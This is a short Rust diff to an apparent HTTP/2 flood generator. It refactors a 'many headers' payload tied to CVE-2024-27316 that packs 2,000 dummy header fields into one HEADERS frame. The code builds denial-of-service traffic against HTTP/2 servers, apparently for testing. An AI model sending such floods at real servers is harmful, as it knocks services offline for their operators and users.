@@ -283,9 +283,7 @@ pub fn floods(path: &str) -> Vec<Flood> {
             frame(HEADERS, END_HEADERS | END_STREAM, stream_of(round), &fields)
         }),
         Flood::new("many headers", "CVE-2024-27316", 0, {
-            let many = "x".repeat(1);
-            let fields: Vec<_> = (0..2_000).map(|_| (&*many, "y")).collect();
-            let fields = [get(path), block(&fields)].concat();
+            let fields = [get(path), block(&[("x", "y"); 2_000])].concat();
             move |round| frame(HEADERS, END_HEADERS | END_STREAM, stream_of(round), &fields)
         }),
     ]
